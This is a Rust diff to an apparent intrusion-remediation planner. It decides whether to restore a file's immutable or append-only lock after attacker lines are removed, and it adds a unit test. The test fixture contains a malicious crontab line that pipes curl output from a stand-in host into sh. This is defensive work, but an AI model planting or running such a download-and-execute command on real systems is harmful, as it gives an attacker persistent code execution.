@@ -216,6 +216,11 @@ pub fn build(
         worst = worst.max(Some(f.severity));
         let why = why_of(f);
         for (sno, s) in f.subjects.iter().enumerate() {
+            // How MT-EVA-001 judged a file's lock (its subject is context: other findings judge the
+            // file): whether an edit sets the lock again (`lock_is_intrusions`).
+            if f.rule == crate::detect::rules::EVA_001.id {
+                c.lock_judged(model, &s.subject, f.severity);
+            }
             // Context is never acted on and needs no gate (a graph walk): a file holding 50,000
             // flagged lines is the context of 50,000 findings (issue 18 case 7).
             if s.role == Role::Context {
@@ -339,6 +344,28 @@ fn resolve_lines(
         }
     }
     edits
+}
+
+/// Whether the immutable or append-only lock of a file the plan edits (and keeps) is the intrusion's, so
+/// the edit leaves it cleared (review #10); otherwise the script sets it again after the edit, as an
+/// admin's lock on `authorized_keys`, a crontab or sudoers must stay. The intrusion's: MT-EVA-001 judged
+/// it high (a family's file), or the file is immutable, MT-EVA-001 judged the lock medium (a persistence,
+/// loader or account file) and an attacker's line removed unasked is in it: an immutable file cannot be
+/// written, so the lock was set after the attacker wrote (pwnrig locks every file it persists in). An
+/// append-only file can be appended to under the admin's lock, and a locked `authorized_keys` is low
+/// (hardening): those locks are set again.
+fn lock_is_intrusions(
+    model: &HostModel,
+    c: &Collect,
+    t: &FileTarget,
+    lines: &[LineRemoval],
+) -> bool {
+    let Some(judged) = c.locks.get(t.path.as_bytes()) else {
+        return false;
+    };
+    let immutable = model.file(t.path.as_bytes()).is_some_and(|f| f.immutable);
+    *judged >= Severity::High
+        || (*judged >= Severity::Medium && immutable && lines.iter().any(|l| l.gate == Gate::Apply))
 }
 
 /// Numbered plan items from the collected targets, in stage order.
@@ -672,11 +699,13 @@ fn assemble(
         .into_iter()
         .map(|(t, lines, why, gate)| {
             let preserved = pn(t.path.as_bytes());
+            let restore_flags = !lock_is_intrusions(model, &c, &t, &lines);
             (
                 Action::RemoveLines {
                     file: t,
                     lines,
                     preserved,
+                    restore_flags,
                 },
                 why,
                 gate,
@@ -978,6 +1007,47 @@ mod tests {
             .subject(persistence_subject(&path, 3));
         let plan = plan_of(make(), doc(vec![high, high3]));
         assert_eq!(quarantined(&plan), vec![&b"/etc/cron.d/app"[..]]);
+    }
+
+    /// Review #10: a kept file's lock is set again after its edit unless it is the intrusion's: MT-EVA-001
+    /// high, or an immutable file (medium lock) an attributed line was written into.
+    #[test]
+    fn an_edited_files_lock_is_restored_unless_the_intrusion_set_it() {
+        let tab = b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl -s http://x/a.sh | sh\n";
+        let path = RawBytes::from(&b"/var/spool/cron/crontabs/root"[..]);
+        let restore = |lock: Severity, immutable: bool, line: Severity| {
+            let (mut f, content) = fixture::file(path.as_bytes(), Some(tab));
+            f.immutable = immutable;
+            f.append_only = !immutable;
+            let model = fixture::model(vec![(f, content)], vec![]);
+            let rec = model.file(path.as_bytes()).expect("record").clone();
+            let findings = vec![
+                finding(&crate::detect::rules::PER_001, line)
+                    .subject(persistence_subject(&path, 2)),
+                finding(&crate::detect::rules::EVA_001, lock)
+                    .subject_as(file_subject(&rec), Role::Context),
+            ];
+            let plan = plan_of(model, doc(findings));
+            let flags: Vec<bool> = plan
+                .items
+                .iter()
+                .filter_map(|i| match &i.action {
+                    Action::RemoveLines { restore_flags, .. } => Some(*restore_flags),
+                    _ => None,
+                })
+                .collect();
+            flags
+        };
+        // An admin's append-only crontab keeps its lock; so does an immutable one whose flagged line is
+        // only a review item.
+        assert_eq!(restore(Severity::Medium, false, Severity::High), vec![true]);
+        assert_eq!(
+            restore(Severity::Medium, true, Severity::Medium),
+            vec![true]
+        );
+        // The attacker's line is in an immutable file: the lock was set after it was written.
+        assert_eq!(restore(Severity::Medium, true, Severity::High), vec![false]);
+        assert_eq!(restore(Severity::High, false, Severity::High), vec![false]);
     }
 
     #[test]
